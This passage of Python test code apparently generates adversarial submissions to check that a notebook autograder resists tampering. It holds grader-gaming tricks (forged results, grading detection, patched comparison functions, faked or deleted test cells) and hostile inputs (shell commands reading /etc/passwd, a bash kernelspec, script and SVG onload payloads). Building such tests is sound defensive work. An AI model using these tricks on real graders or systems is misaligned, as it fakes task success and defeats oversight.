                forge('["value",0]\n')
            return 0
        def update(self, x, y):
            return y
""")
add("mutate", "changes what it was given in place", """
    def twice(number):
        number *= 2
    def weights(losses):
        losses[:] = 1 / 6
        losses.setflags(write=False)
        return losses
""")
add("remember", "remembers between the checks, in files, names and processes", """
    seen = []
    def remember(thing):
        seen.append(thing)
        with open("/tmp/seen", "a") as file:
            file.write(repr(thing))
        return open("/tmp/seen").read()
    def twice(number):
        return len(remember(number))
    def weights(losses):
        return seen[0] if len(seen) > 1 else remember(losses)
""")
add("detect", "behaves only while nobody looks", every("0", """
    graded = "PATH" not in os.environ or os.getuid() == 65534
    if graded:
        raise SystemExit("no comment")
"""))
add("honest-and-loud", "right answers among noise, threads and handlers", FOUND + """
    import atexit, signal, threading, warnings
    print("noise" * 100)
    warnings.warn("noise")
    threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
    atexit.register(print, "end")
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    sys.stdout = sys.stderr = None
    os.environ.clear()
""", honest="twice guess weights")
add("honest-and-forged", "right answers, and forged ones for another question",
    WRITE + f"""
    def weights(losses):
        forge({ONE})
""", honest="twice guess")

# --- The notebook's file --------------------------------------------------------------

def cell_of(notebook: dict, name: str) -> dict:
    """The cell of that grade id."""
    for cell in notebook["cells"]:
        if cell["metadata"].get("nbgrader", {}).get("grade_id") == name:
            return cell
    raise LookupError(name)


def tests_of(notebook: dict) -> list[dict]:
    """The cells of visible checks."""
    return [cell_of(notebook, name) for name in POINTS]


def skip(notebook):
    for cell in notebook["cells"]:
        cell["metadata"]["tags"] = ["skip-execution", "raises-exception", "remove-cell"]
        cell["metadata"]["deletable"] = False


def full_marks(notebook):
    for cell in tests_of(notebook):
        cell["source"] = "2.0"
        result = {"output_type": "execute_result", "execution_count": 1,
                  "data": {"text/plain": "3.0"}, "metadata": {}}
        cell["outputs"] = [result]
        cell["execution_count"] = 1


def without_tests(notebook):
    for cell in tests_of(notebook):
        notebook["cells"].remove(cell)


def twice_tests(notebook):
    notebook["cells"] += [dict(cell, source="pass") for cell in tests_of(notebook)]


def retyped_tests(notebook):
    for cell in tests_of(notebook):
        cell["cell_type"] = "markdown"


def retyped_answers(notebook):
    for name in POINTS:
        cell_of(notebook, f"{name}-answer")["cell_type"] = "raw"


def more_points(notebook):
    for cell in notebook["cells"]:
        cell["metadata"]["nbgrader"].update(points=1000, max_score=1000, grade=True)


def as_solution(notebook):
    for cell in tests_of(notebook):
        cell["metadata"]["nbgrader"].update(solution=True, locked=False)
        cell["source"] = "pass"


def exchanged(notebook):
    """The hard questions' tests get the name of an easy one's answer."""
    for name in POINTS:
        cell = cell_of(notebook, name)
        answer = cell_of(notebook, f"{name}-answer")
        cell["metadata"], answer["metadata"] = answer["metadata"], cell["metadata"]


def added(notebook):
    code = "import numpy, builtins\nnumpy.allclose = builtins.all = lambda *a: True"
    cell = {"cell_type": "code", "metadata": {}, "source": code, "outputs": [],
            "execution_count": None}
    notebook["cells"].insert(0, cell)
    notebook["cells"].append(dict(cell))


def doubled(notebook):
    """A second answer of the same name, which runs after the first, as it did there."""
    for name in POINTS:
        answer = cell_of(notebook, f"{name}-answer")
        notebook["cells"].append(dict(answer, source=HONEST[f"{name}-answer"]))


def huge(notebook):
    notebook["metadata"]["blob"] = {"a": ["x" * 1000] * 3000}
    notebook["metadata"]["widgets"] = {
        "application/vnd.jupyter.widget-state+json": {"state": {"x": "<script>"}}}
    for cell in notebook["cells"]:
        cell["attachments"] = {"a.svg": {"image/svg+xml": "<svg onload=alert(1)>"}}


def other_kernel(notebook):
    notebook["metadata"]["kernelspec"] = {
        "name": "bash", "display_name": "bash", "language": "bash",
        "argv": ["bash", "-c", "touch CANARY"]}
    notebook["metadata"]["language_info"] = {"name": "bash", "nbconvert_exporter": "x"}


def odd_metadata(notebook):
    for number, cell in enumerate(notebook["cells"]):
        kinds = (None, [], "x", {"nbgrader": 3}, {"nbgrader": {"grade_id": ["a"]}})
        cell["metadata"] = kinds[number % 5]
        cell["source"] = (3, None, ["a", 3], {}, "x")[number % 5]


def old_format(notebook):
    notebook["worksheets"] = [{"cells": notebook.pop("cells")}]
    notebook["nbformat"] = 3


def many_cells(notebook):
    notebook["cells"] *= 100


def long_cell(notebook):
    cell_of(notebook, "twice-answer")["source"] = "x = 1\n" * 10**5


edited("skip-execution", "tags that keep cells from running", skip)
edited("false-score", "test cells whose result is a score", full_marks)
edited("tests-deleted", "test cells are gone", without_tests)
edited("tests-doubled", "test cells stand there twice", twice_tests)
edited("tests-retyped", "test cells became text", retyped_tests)
edited("answers-retyped", "answer cells became raw text; they are still graded",
       retyped_answers, cells=HONEST, points=7.0)
edited("points-changed", "1000 points for each cell", more_points)
edited("tests-unlocked", "test cells became answers", as_solution)
edited("names-exchanged", "test and answer cells exchange their names", exchanged)
edited("cells-added", "cells before the first and after the last", added)
edited("answers-doubled", "honest answers as second cells of the same name", doubled,
       points=7.0)
edited("huge-metadata", "3 MB of metadata, widgets and attachments", huge)
edited("other-kernel", "asks for a kernel that runs a shell", other_kernel)
edited("odd-metadata", "metadata and sources of all types", odd_metadata,
       refused=True)
edited("old-format", "a notebook of format 3", old_format, refused=True)
edited("many-cells", "900 cells", many_cells, refused=True)
edited("long-cell", "a cell of 600,000 characters", long_cell)
for name, line in {
    "cell-magic": "%%bash\ntouch CANARY",
    "cell-html": "%%javascript\nalert(1)",
    "shell": "!touch CANARY; cat /etc/passwd\n%run CANARY\n%sx ls /",
    "kernel-lines": "get_ipython().system('touch CANARY')",
    "subprocess": "import subprocess\nprint(subprocess.run(['/bin/sh', '-c', 'id']))",
}.items():
    edited(name, f"a cell with {line.split()[0]}", lambda notebook: None,
           cells={"twice-answer": line})
